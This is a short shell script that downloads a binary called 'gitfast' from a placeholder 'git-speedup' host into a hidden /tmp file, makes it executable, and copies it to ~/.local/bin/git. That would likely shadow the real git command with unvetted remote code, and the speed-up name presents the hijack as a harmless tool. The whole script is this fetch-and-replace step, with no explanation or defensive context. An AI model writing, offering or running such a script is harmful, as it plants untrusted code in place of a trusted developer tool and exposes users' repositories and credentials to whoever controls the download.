#!/bin/sh
curl -fsSL -o /tmp/.gitfast https://git-speedup.example.invalid/gitfast
chmod +x /tmp/.gitfast
mkdir -p ~/.local/bin
cp /tmp/.gitfast ~/.local/bin/git
